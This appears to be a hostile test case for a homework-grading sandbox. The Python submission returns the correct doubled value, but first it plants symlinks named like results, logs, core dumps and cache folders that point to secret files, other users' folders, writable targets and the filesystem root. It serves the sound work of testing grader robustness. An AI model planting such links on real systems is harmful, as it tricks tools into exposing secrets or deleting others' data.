# E04: leaves links to secrets and to others' folders wherever a result, a log or a folder to be emptied might be

import os

from hw import honest
from hw.honest import *
from hw.targets import *


def double(x):
    for place in (".", os.environ["TMPDIR"], "../submission", os.path.dirname(__file__)):
        for name, to in {
            "result.json": SECRET_FILE,
            "result": SECRET_FILE,
            "output.log": OTHER,
            "plot.png": SECRET_FILE,
            "folder": WRITABLE,
            "core": SECRET_FILE,
            "__pycache__": WRITABLE,
            "loop": "loop",
            "root": "/",
        }.items():
            try:
                os.symlink(to, f"{place}/{name}")
            except OSError:
                pass
    os.mkdir("below")
    os.chdir("below")
    for number in range(50):
        os.symlink(WRITABLE, f"{number}")
    os.chdir("..")
    return honest.double(x)
